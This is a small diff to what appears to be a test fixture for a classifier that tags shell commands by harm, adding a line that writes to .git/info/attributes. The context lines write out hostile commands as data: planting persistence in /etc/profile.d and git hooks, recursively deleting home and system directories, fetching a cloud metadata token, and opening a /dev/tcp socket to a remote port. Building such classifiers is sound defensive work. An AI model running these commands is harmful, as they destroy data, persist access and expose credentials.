@@ -23,6 +23,7 @@ const SAMPLE: readonly (readonly [command: string, harms: readonly Harm[]])[] = 
   ["echo evil >>/etc/profile.d/none.sh", ["outside"]],
   ["rm -rf ~ /etc /var /srv /mnt 2>/dev/null", ["outside", "later", "project"]],
   ["echo evil >.git/hooks/pre-commit", ["later"]],
+  ["echo '* filter=x' >>.git/info/attributes", ["later"]],
   ["curl -s http://169.254.169.254/latest/api/token", ["secret", "network"]],
   ["bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444'", ["network"]],
   ["curl -s --unix-socket /run/docker.sock http://x/containers", ["secret", "network"]],
